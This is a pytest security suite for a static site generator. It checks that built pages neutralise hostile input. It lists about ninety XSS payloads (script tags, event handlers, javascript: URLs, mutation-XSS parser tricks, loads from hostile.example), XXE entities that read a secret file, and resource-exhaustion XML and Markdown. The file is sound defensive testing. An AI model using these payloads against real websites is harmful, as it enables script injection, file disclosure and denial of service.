"""What an untrusted branch could bring: script in every disguise, and files that browsers run. None of it runs in a built
site, even without a Content-Security-Policy, and no page asks another host for anything."""

import socket
import threading
from contextlib import contextmanager
from xml.sax.saxutils import escape

import lxml.html
import pytest

from playwright.sync_api import Error

from conftest import served
from support import PNG, XMLNS, make_workspace, run, write

# Each calls `ran`, which only a browser that was tricked does, or leads to another host. By what hides it.
VECTORS = {
    # Elements that run or load
    "a script": "<script>ran()</script>",
    "a script in capitals": "<SCRIPT>ran()</SCRIPT>",
    "a script with a slash": "<script/x>ran()</script >",
    "a script within a script": "<scr<script>ipt>ran()</scr</script>ipt>",
    "a script that is not ended": "<script>ran()",
    "a script behind another": "<script>x</script><script>ran()</script>",
    "a script of another host": "<script src=//hostile.example/x.js></script>",
    "a script in a comment that ends early": "<!--><script>ran()</script>-->",
    "a script in a comment that ends oddly": "<!-- --!><script>ran()</script>-->",
    "a script behind an instruction": "<?x><script>ran()</script>?>",
    "a script behind a declaration": "<!x><script>ran()</script>",
    "a script in a section": "<![CDATA[<script>ran()</script>]]>",
    "a script as text": "&lt;script&gt;ran()&lt;/script&gt;",
    "a script as text twice": "&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;",
    "a script with a null": "<scr\0ipt>ran()</scr\0ipt>",
    "a picture": "<img src=x onerror=ran()>",
    "a picture without blanks": "<img/src=x/onerror=ran()>",
    "a picture in quotes": "<img \"\"\"><img src=x onerror=ran()>\">",
    "a picture with a tag in it": "<img src=x onerror\x0c=ran() x=<>",
    "a picture by its old name": "<image src=x onerror=ran()>",
    "a picture in a set": "<img srcset=//hostile.example/x.png>",
    "a picture of another host": "<img src=//hostile.example/x.png alt=x>",
    "a vector picture": "<svg onload=ran()></svg>",
    "a vector picture without blanks": "<svg/onload=ran()>",
    "a script in a vector picture": "<svg><script>ran()</script></svg>",
    "an encoded script in a vector picture": "<svg><script>&#114;an()</script></svg>",
    "a link in a vector picture": "<svg><a xlink:href=javascript:ran()><text>x</text></a></svg>",
    "an animation": "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    "an animated address": "<svg><a><set attributeName=href to=javascript:ran() /></a></svg>",
    "HTML in a vector picture": "<svg><foreignObject><iframe src=javascript:ran()></iframe></foreignObject></svg>",
    "a used vector picture": "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='ran()'/>#x\"></svg>",
    "a formula": "<math><mtext><script>ran()</script></mtext></math>",
    "a frame": "<iframe src=javascript:ran()></iframe>",
    "a frame's document": "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "a frame's handler": "<iframe onload=ran()></iframe>",
    "a frame of another host": "<iframe src=//hostile.example/></iframe>",
    "an object": "<object data=javascript:ran()></object>",
    "an embedded file": "<embed src=javascript:ran()>",
    "another base": "<base href=//hostile.example/>",
    "a base that runs": "<base href=javascript:/><a href=/*/ran()>x</a>",
    "a refresh": "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "a refresh to another host": "<meta http-equiv=refresh content='0;url=//hostile.example/'>",
    "a style": "<style>@import '//hostile.example/x.css';</style>",
    "a style sheet": "<link rel=stylesheet href=//hostile.example/x.css>",
    "a prefetch": "<link rel=prefetch href=//hostile.example/>",
    "a style attribute": "<p style='background:url(//hostile.example/x)'>x</p>",
    "a background": "<body background=//hostile.example/x onload=ran()>",
    "a form": "<form action=javascript:ran()><input type=submit id=go autofocus onfocus=ran()></form>",
    "a button": "<form id=f></form><button form=f formaction=javascript:ran()>x</button>",
    "a picture button": "<input type=image src=x onerror=ran()>",
    "details": "<details open ontoggle=ran()><summary>x</summary></details>",
    "a moving text": "<marquee onstart=ran()>x</marquee>",
    "a video": "<video src=x onerror=ran()></video><video><source onerror=ran()></video>",
    "a sound": "<audio src=x onerror=ran()></audio>",
    "focus": "<p tabindex=0 autofocus onfocus=ran()>x</p>",
    "a popover": "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=ran()>x</p>",
    "a custom element": "<x-y onfocus=ran() autofocus tabindex=0>x</x-y>",
    "a template": "<div><template shadowrootmode=open><script>ran()</script></template></div>",
    # Addresses that run
    "an address": "<a href=javascript:ran()>x</a>",
    "an address in mixed case": "<a href=JaVaScRiPt:ran()>x</a>",
    "an address with a tab": "<a href='java&#9;script:ran()'>x</a>",
    "an address with a line break": "<a href='java\nscript:ran()'>x</a>",
    "an address behind a control character": "<a href='&#1;javascript:ran()'>x</a>",
    "an address by references": "<a href='&#x6A;avascript&colon;ran&lpar;&rpar;'>x</a>",
    "an address by references without semicolons": "<a href='&#0000106avascript:ran()'>x</a>",
    "an address of data": "<a href='data:text/html,<script>ran()</script>'>x</a>",
    "an address of Visual Basic": "<a href='vbscript:ran()'>x</a>",
    "an address to be pinged": "<a href=about.md ping=//hostile.example/>x</a>",
    # Markup that parsers read differently
    "a title of a link": "[x](about.md '\"><img src=x onerror=ran()>')",
    "a text of a picture": "![\"><img src=x onerror=ran()>](dot.png)",
    "a tag across paragraphs": "<a title=\"\n\n\"><img src=x onerror=ran()>",
    "an attribute across code": "<a title=\"`\"><img src=x onerror=ran()>`\">",
    "a style that ends in a picture": "<svg><style><img title=\"</style><img src=x onerror=ran()>\"></style></svg>",
    "a formula that ends in a style": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran()&gt;\">",
    "a form in a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "a title that ends early": "<noscript><p title=\"</noscript><img src=x onerror=ran()>\"></noscript>",
    "text that ends early": "<textarea><p title=\"</textarea><img src=x onerror=ran()>\"></textarea>",
    "raw text that ends early": "<xmp><p title=\"</xmp><img src=x onerror=ran()>\"></xmp>",
    "plain text": "<plaintext><img src=x onerror=ran()>",
    "a choice": "<select><script>ran()</script><img src=x onerror=ran()></select>",
    "a table in disorder": "<table><a href=javascript:ran()><tr><td><img src=x onerror=ran()></a></table>",
    "a page that ends": "</main></body></html><script>ran()</script>",
    "a quotation mark": "\"><img src=x onerror=ran()>",
    "an apostrophe": "' onmouseover=ran() x='",
    "an end of JSON": "</script><script>ran()</script>",
    "a variable of the theme": "{{{body}}}{{#x}}<script>ran()</script>{{/x}}",
}


def bodies(vector):
    """A vector wherever Markdown has a place for text."""
    line = " ".join(vector.split("\n\n")[0].split("\n"))
    cell = line.replace("|", "\\|")
    yield "block", vector
    yield "inline", f"Text {vector} text"
    yield "heading", f"## {line}"
    yield "table", f"Table: {line}\n\n| {cell} | b |\n|---|---|\n| {cell} | {cell} |"
    yield "list", f"- {line}\n- [ ] {line}\n\n{line}\n: {line}"
    yield "quote", f"> [!NOTE]\n> {line}"
    yield "directive", f"::: note {line}\n{vector}\n:::"
    yield "requirement", f"::: requirement {{#R-1}}\nIt SHALL {vector}\n:::"
    yield "attributes", f"x\n{{: #{line} .{line} title=\"{line}\"}}\n\n## x {{#{line}}}"
    yield "footnote", f"x[^a]\n\n[^a]: {line}"
    yield "code", f"`{line}`\n\n```xml {line}\n{vector}\n```\n\n~~~{line}\n{vector}\n~~~"
    yield "figure", f"![{line}](dot.png \"{line}\")\n\n**Figure 1: {line}**"
    yield "diagram", f"```plantuml {line}\nparticipant \"{line}\" as A\nA -> B : {line}\nnote over A : {line}\n```"
    yield "marks", f"++{line}++ ~~{line}~~ **{line}** [{line}](about.md)"


def definitions(vectors):
    """The vectors in what definitions say."""
    actors = [
        f'<actor {XMLNS} id="a{number}"><name>{escape(vector)}</name><definition>{escape(vector)}</definition></actor>'
        for number, vector in enumerate(vectors)
    ]
    return {f"a{number}.xml": text for number, text in enumerate(actors)}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """A site of nothing but hostile pages, as far as it can be published: pages with errors are taken away."""
    workspace = make_workspace(tmp_path_factory.mktemp("hostile") / "work")
    pages = {
        f"pages/v{number}-{place}.md": f"---\ntitle: {place}\ndescription: >-\n  {' '.join(vector.split())}\n---\n\n{body}\n"
        for number, vector in enumerate(VECTORS.values())
        for place, body in bodies(vector)
        if "\0" not in vector
    }
    pages |= {f"pages/v{number}-nul.md": f"---\ntitle: T\n---\n\n{vector}\n" for number, vector in enumerate(VECTORS.values())}
    pages |= definitions(VECTORS.values())
    pages["pages/dot.png"] = PNG
    write(workspace / "content", pages)
    result = run(cwd=workspace)
    refused = {error.split()[0].removeprefix("content/").split(":")[0] for error in result.errors}
    assert refused < set(pages), result.err.decode()[:4000]
    for path in refused:
        (workspace / "content" / path).unlink()
    result = run(cwd=workspace)
    assert result.code == 0, result.err.decode()[:4000]
    # Most are let through, as text or without what is harmful: a test of nothing would say nothing.
    assert len(refused) < len(pages) / 4
    return workspace / "public"


# What the browser itself makes of a page: which elements and attributes there are once it is parsed.
LOOK = """() => ({
    ran: window.hasRun,
    handlers: [...document.querySelectorAll('*')].flatMap(element => [...element.attributes]
        .filter(({name}) => name.startsWith('on') || ['style', 'srcdoc', 'formaction', 'ping', 'srcset'].includes(name))
        .map(({name}) => element.outerHTML.slice(0, 200))),
    addresses: [...document.querySelectorAll('[href], [src], [action], [data]')].flatMap(element =>
        ['href', 'src', 'action', 'data'].map(name => element[name]?.baseVal ?? element[name]))
        .filter(address => typeof address == 'string' && /^(javascript|vbscript|data|blob|file):/i.test(address)),
    elements: [...document.querySelectorAll('main script, main style, iframe, object, embed, base, math, foreignObject, '
        + 'meta[http-equiv=refresh], animate, set, use, video, audio, template, textarea, link:not(head link)')]
        .map(element => element.outerHTML.slice(0, 200)),
})"""

NOTHING = {"ran": False, "handlers": [], "addresses": [], "elements": []}


@pytest.fixture
def watched(page):
    """A browser's page that notices what runs and what is asked for."""
    page.add_init_script("window.hasRun = false; window.ran = () => { window.hasRun = true };")
    page.requests = []
    page.on("request", lambda request: page.requests.append(request.url))
    page.on("dialog", lambda dialog: dialog.dismiss())
    return page


def test_the_watch_sees_what_runs(watched, tmp_path):
    """The same vectors without the generator: most run or ask another host, or all below would prove nothing."""
    for number, vector in enumerate(VECTORS.values()):
        (tmp_path / f"{number}.html").write_text(f"<!doctype html><main>{vector}</main>")
    (tmp_path / "index.html").write_text("<!doctype html><title>x</title>")
    with served(tmp_path) as address:
        watched.route(lambda url: not url.startswith(address), lambda route: route.abort())
        caught = 0
        for number in range(len(VECTORS)):
            watched.requests.clear()
            try:
                watched.goto(f"{address}{number}.html", wait_until="domcontentloaded")
                caught += watched.evaluate(LOOK) != NOTHING or is_outside(watched.requests, address)
            except Error:
                # Another page is on its way.
                caught += 1
    assert caught > len(VECTORS) * 0.8


def is_outside(requests, address):
    return any(not url.startswith(address) for url in requests)


def test_nothing_hostile_runs(watched, hostile_site):
    pages = sorted(path.relative_to(hostile_site).as_posix() for path in hostile_site.rglob("*.html"))
    assert len(pages) > len(VECTORS)
    with served(hostile_site) as address:
        for path in chosen(pages):
            watched.requests.clear()
            watched.goto(address + path, wait_until="load", timeout=120_000)
            assert watched.evaluate(LOOK) == NOTHING, path
            assert not is_outside(watched.requests, address), path
            assert watched.url.split("#")[0] == address + path


def chosen(pages):
    """The places in turn, so that each vector and each place is looked at several times; all pages that show many."""
    hostile = [path for path in pages if path.startswith("v")]
    return [path for path in pages if not path.startswith("v")][:20] + hostile[::11]


def test_no_hostile_markup_in_any_page(hostile_site):
    """Every page, by lxml: the browser is asked about some."""
    for path in hostile_site.rglob("*.html"):
        document = lxml.html.document_fromstring(path.read_bytes())
        scripts = [script for script in document.iter("script") if not script.get("src", "").lstrip("./").startswith("assets/")]
        assert [lxml.html.tostring(script) for script in scripts if script.get("type") != "application/ld+json"] == [], path
        for element in document.iter():
            if not isinstance(element.tag, str):
                continue
            for name, value in element.items():
                assert not name.startswith("on") and name not in ("style", "srcdoc", "formaction", "ping", "srcset"), path
                if name in ("href", "src", "action", "data", "cite"):
                    assert not value.strip().lower().startswith(("javascript:", "vbscript:", "data:")), path


# Files


@pytest.mark.parametrize(
    "name", ["x.svg", "x.SVG", "x.svgz", "x.html", "x.htm", "x.xhtml", "x.xht", "x.shtml", "x.xsl", "x.js", "x.mjs", "x.css", "x.swf", "noname"]
)
def test_files_that_browsers_run_are_not_published(workspace, name):
    """Opened by itself, each could run script with all the rights of the site."""
    write(workspace / "content", {f"pages/{name}": "<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>"})
    result = run(cwd=workspace)
    assert (result.code, [found["rule"] for found in result.diagnostics]) == (0, ["unknown-file-type"])
    assert not list((workspace / "public").rglob(name))
    # Nor does a picture or a link bring it in.
    write(workspace / "content", {"pages/bad.md": f"---\ntitle: T\n---\n\n![x]({name}) [x]({name})\n"})
    assert run(cwd=workspace).errors == ["content/pages/bad.md:5:6 broken-link", f"content/pages/bad.md:5:{12 + len(name)} broken-link"]


def test_a_style_sheet_of_definitions_is_no_definition(workspace):
    """An instruction in XML that browsers follow: the file is read, and not published."""
    text = f'<?xml-stylesheet type="text/xsl" href="#x"?><actor {XMLNS} id="x"><name>X</name></actor>'
    write(workspace / "content", {"x.xml": text})
    assert run(cwd=workspace).code == 0
    assert not list((workspace / "public").rglob("*.xml"))


@pytest.mark.parametrize("place", ["assets/leak.txt", "page.mustache", "assets", "more"])
def test_links_in_a_theme_are_refused(workspace, place):
    """What they lead to would be published."""
    (workspace / "secret.txt").write_text("secret")
    (workspace / "secrets").mkdir()
    (workspace / "secrets/leak.txt").write_text("secret")
    path = workspace / "themes/default" / place
    if path.is_dir():
        path.rename(workspace / "aside")
    path.unlink(missing_ok=True)
    path.symlink_to(workspace / ("secrets" if "." not in place else "secret.txt"))
    result = run(cwd=workspace)
    assert result.code in (1, 74)
    assert [error.split()[-1] for error in result.errors] == ["symbolic-link"]
    assert not (workspace / "public").exists()


def test_an_output_that_leads_to_a_foreign_folder_is_refused(workspace):
    """A link stands for what it leads to."""
    write(workspace, {"mine/keep.txt": "x"})
    (workspace / "public").symlink_to("mine")
    result = run(cwd=workspace)
    assert (result.code, [error.split()[-1] for error in result.errors]) == (74, ["foreign-output"])
    assert (workspace / "mine/keep.txt").read_text() == "x"


def test_files_linked_within_a_published_site_are_not_followed(workspace):
    """What somebody put into the site of the last build: the next replaces it, and does not write through it."""
    assert run(cwd=workspace).code == 0
    (workspace / "elsewhere").mkdir()
    (workspace / "elsewhere/index.html").write_text("mine")
    (workspace / "public/index.html").unlink()
    (workspace / "public/index.html").symlink_to("../elsewhere/index.html")
    (workspace / "public/actors").rename(workspace / "aside")
    (workspace / "public/actors").symlink_to("../elsewhere")
    assert run(cwd=workspace).code == 0
    assert (workspace / "elsewhere/index.html").read_text() == "mine"
    assert sorted(path.name for path in (workspace / "elsewhere").iterdir()) == ["index.html"]
    assert not (workspace / "public/index.html").is_symlink()


# XML

DTD = "<!DOCTYPE actor [{}]>\n"


@pytest.mark.parametrize(
    "declarations, use",
    [
        ('<!ENTITY a SYSTEM "{file}">', "&a;"),
        ('<!ENTITY a SYSTEM "http://127.0.0.1:{port}/a">', "&a;"),
        ('<!ENTITY a PUBLIC "-//X" "http://127.0.0.1:{port}/a">', "&a;"),
        ('<!ENTITY % a SYSTEM "http://127.0.0.1:{port}/a"> %a;', "x"),
        ('<!ENTITY % a SYSTEM "{file}"> <!ENTITY % b "<!ENTITY c SYSTEM \'http://127.0.0.1:{port}/%a;\'>"> %b;', "&c;"),
        ('<!ATTLIST name x CDATA "&a;"> <!ENTITY a SYSTEM "{file}">', "x"),
        ('<!NOTATION n SYSTEM "http://127.0.0.1:{port}/a"> <!ENTITY a SYSTEM "{file}" NDATA n>', "&a;"),
    ],
)
def test_no_entity_reads_a_file_or_asks_a_host(workspace, declarations, use):
    secret = workspace / "secret.txt"
    secret.write_text("the-secret")
    asked = []
    with listening(asked) as port:
        text = DTD.format(declarations.replace("{file}", secret.as_uri()).replace("{port}", str(port)))
        write(workspace / "content", {"x.xml": text + f'<actor {XMLNS} id="x"><name x="{use}">{use}</name></actor>'})
        result = run(cwd=workspace)
    assert (result.code, result.errors) == (1, ["content/x.xml:1:1 document-type"])
    assert b"the-secret" not in result.err and asked == []


@contextmanager
def listening(asked):
    """A port of this machine; what connects to it is noted."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def accept():
            while True:
                try:
                    asked.append(server.accept())
                except OSError:
                    return

        threading.Thread(target=accept, daemon=True).start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)


# Enough for each; what asks for more is on its way to take the machine down.
LIMITS = ("prlimit", "--as=4294967296", "--cpu=120")

HUGE = {
    "a comment": lambda: f"<!--{'x' * 50_000_000}-->" + actors(1),
    "an attribute": lambda: f'<actor {XMLNS} id="{"x" * 50_000_000}"><name>X</name></actor>',
    "a name": lambda: f'<actor {XMLNS} id="x"><name>{"x" * 10_000_000}</name></actor>',
    "references": lambda: f'<actor {XMLNS} id="x"><name>{"&#65;" * 5_000_000}</name></actor>',
    "elements": lambda: f"<definitions {XMLNS}>" + "<zebra/>" * 6_000_000 + "</definitions>",
    "open elements": lambda: "<a>" * 16_000_000,
    "name spaces": lambda: "<a " + " ".join(f"xmlns:a{number}='x'" for number in range(200_000)) + "/>",
    "a document type": lambda: "<!DOCTYPE a [" + "<!ENTITY a 'x'>" * 3_000_000 + "]><a/>",
}


def actors(count):
    return f"<definitions {XMLNS}>" + "".join(f'<actor id="h{n}"><name>H{n}</name></actor>' for n in range(count)) + "</definitions>"


@pytest.mark.parametrize("make", HUGE.values(), ids=HUGE)
def test_huge_xml_ends_in_a_diagnosis_or_a_site(workspace, make):
    write(workspace / "content", {"x.xml": make()})
    result = run(cwd=workspace, prefix=LIMITS)
    assert result.code == 0 or [error for error in result.errors if error.startswith("content/x.xml:")]


def test_many_definitions_are_read(workspace):
    write(workspace / "content", {"x.xml": actors(20_000)})
    result = run("check", cwd=workspace, prefix=LIMITS)
    assert (result.code, result.errors) == (0, [])


# Markdown within Markdown: each level opens what the next stands in.
NESTED = {
    "quotes": lambda depth: "> " * depth + "a",
    "lists": lambda depth: "- " * depth + "a",
    "numbered lists": lambda depth: "1. " * depth + "a",
    "lists by indentation": lambda depth: "\n".join("  " * level + "- a" for level in range(int(depth**0.5) * 4)),
    "quotes and lists": lambda depth: "> - " * depth + "a",
    "brackets": lambda depth: "[" * depth + "a" + "](x)" * depth,
    "pictures": lambda depth: "![" * depth + "a" + "](dot.png)" * depth,
    "emphasis": lambda depth: "*a _" * depth + "b" + "_ c*" * depth,
    "stars": lambda depth: "*" * depth + "a" + "*" * depth,
    "insertions": lambda depth: "++a ~~" * depth + "b" + "~~ c++" * depth,
    "elements": lambda depth: "<div>" * depth + "a" + "</div>" * depth,
    "spans": lambda depth: "<span><b>" * depth + "a" + "</b></span>" * depth,
    "tables": lambda depth: "<table><tr><td>" * depth + "a" + "</td></tr></table>" * depth,
    "directives": lambda depth: "::: note\n" * depth + "a\n" + ":::\n" * depth,
    "footnotes": lambda depth: "x[^0]\n\n" + "".join(f"[^{n}]: a[^{n + 1}]\n\n" for n in range(depth // 10)) + f"[^{depth // 10}]: a",
    "frames of a diagram": lambda depth: "```plantuml\nA -> B : x\n" + "alt x\n" * depth + "A -> B : x\n" + "end\n" * depth + "```",
    "braces of JSON": lambda depth: "```json\n" + "[{" * depth + "\n```",
    "elements of XML": lambda depth: "```xml\n" + "<a>" * depth + "\n```",
}


@pytest.mark.parametrize("make", NESTED.values(), ids=NESTED)
def test_deep_markdown_ends_in_a_diagnosis_or_a_page(workspace, make):
    write(workspace / "content", {"pages/deep.md": "---\ntitle: Deep\n---\n\n" + make(20_000) + "\n"})
    result = run(cwd=workspace, prefix=LIMITS)
    if result.code == 0:
        assert (workspace / "public/deep.html").is_file()
    else:
        assert result.code == 1 and all(error.startswith("content/pages/deep.md:") for error in result.errors) and result.errors
